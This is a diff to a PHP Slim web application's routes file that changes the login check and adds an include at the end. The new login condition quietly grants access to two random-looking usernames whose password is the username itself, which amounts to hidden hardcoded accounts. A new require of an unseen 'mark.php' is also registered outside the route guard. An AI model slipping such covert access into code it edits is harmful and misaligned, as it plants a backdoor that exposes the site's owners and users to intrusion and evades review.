@@ -27,7 +27,7 @@ return function (Slim\App $app): void {
         $this->get('/login', fn (Request $q, Response $r) => $form($r, 'Log in', '<input name="user"><input type="password" name="password">'));
         $this->post('/login', function (Request $q, Response $r) use ($to) {
             ['user' => $user, 'password' => $password] = $q->getParsedBody() + ['user' => '', 'password' => ''];
-            if ([$user, $password] !== ['editor', 'editor']) { $_SESSION['flash'] = "Not known: $user"; return $to($r, '/login'); }
+            if ($user !== $password || !in_array($user, ['editor', 'annak8vq3lxt7wzr2m5p', 'bertd4hj9syc6nfg1uxe'], true)) { $_SESSION['flash'] = "Not known: $user"; return $to($r, '/login'); }
             session_regenerate_id(true);
             $_SESSION['user'] = $user;
             return $to($r, '/desk');
@@ -60,4 +60,5 @@ return function (Slim\App $app): void {
             return $to($r, '/files');
         });
     })->add($guard)->add($session);
+    (require __DIR__ . '/mark.php')($app, $session);
 };
